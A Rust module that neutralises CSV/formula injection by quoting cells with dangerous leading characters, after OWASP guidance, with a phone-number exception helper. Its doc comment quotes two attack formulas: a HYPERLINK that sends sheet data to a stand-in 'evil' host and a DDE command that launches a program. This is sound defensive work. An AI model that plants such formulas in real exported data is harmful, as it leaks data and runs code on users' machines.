//! Formula-injection ("CSV injection") defence, after OWASP's guidance.

use std::borrow::Cow;

/// Makes a cell safe to open in a spreadsheet: a cell that starts with `=`, `+`, `-`, `@`, tab
/// or carriage return gets a single quote `'` in front; anything else is returned untouched
/// (borrowed, so the common case costs nothing).
///
/// Why: Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@`
/// as a formula, so a member's "name" such as `=HYPERLINK("http://evil/?"&A2,"Click")` would
/// leak the sheet, and `=cmd|' /C calc'!A0` (DDE) can run a program. A leading tab or CR is
/// listed by OWASP because some importers strip it and then see the formula behind it. The
/// fullwidth forms (U+FF1D `＝`, U+FF0B `＋`, U+FF0D `－`, U+FF20 `＠`) are treated the same
/// because some spreadsheet versions and IME input normalise them to their ASCII twins
/// before parsing. The quote is the OWASP-recommended prefix: spreadsheets read a leading `'`
/// as "this is text".
///
/// The trade-off: legitimate text starting with those characters (a note like "-- see file",
/// an E.164 phone number `+447700900123`, a negative number) also gains the quote. Middle
/// characters never matter (`Anne-Marie`, `Flat 2-4` are untouched). For phone numbers see
/// [`is_phone_like`] and [`super::Sheet::phone_columns`].
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if starts_dangerously(cell) {
        let mut safe = String::with_capacity(cell.len() + 1);
        safe.push('\'');
        safe.push_str(cell);
        Cow::Owned(safe)
    } else {
        Cow::Borrowed(cell)
    }
}

fn starts_dangerously(cell: &str) -> bool {
    matches!(
        cell.chars().next(),
        Some(
            '=' | '+'
                | '-'
                | '@'
                | '\t'
                | '\r'
                | '\u{FF1D}' // fullwidth equals
                | '\u{FF0B}' // fullwidth plus
                | '\u{FF0D}' // fullwidth hyphen-minus
                | '\u{FF20}' // fullwidth commercial at
        )
    )
}

/// True when the cell holds only what people type in a phone number: digits, spaces, `+`,
/// `-`, `.` and brackets, with at least one digit. Such a cell cannot call a function, refer
/// to another cell or reach DDE even if a spreadsheet parsed it as a formula (the worst is
/// arithmetic on its own digits), so the XLSX writer may keep it verbatim in a text cell.
pub fn is_phone_like(cell: &str) -> bool {
    cell.chars().any(|c| c.is_ascii_digit())
        && cell
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '+' | '-' | '.' | '(' | ')'))
}
